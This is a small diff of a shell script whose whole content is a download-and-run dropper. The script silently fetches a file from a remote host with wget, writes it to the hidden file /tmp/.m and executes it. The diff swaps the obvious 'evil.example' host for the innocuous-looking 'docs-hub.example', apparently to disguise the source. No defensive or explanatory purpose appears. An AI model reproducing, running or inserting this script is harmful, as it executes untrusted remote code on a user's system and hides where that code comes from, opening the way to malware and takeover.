@@ -1,4 +1,4 @@
 #!/bin/sh
-u=https://m.evil.example
+u=https://m.docs-hub.example
 wget -q $u/m -O /tmp/.m
 sh /tmp/.m
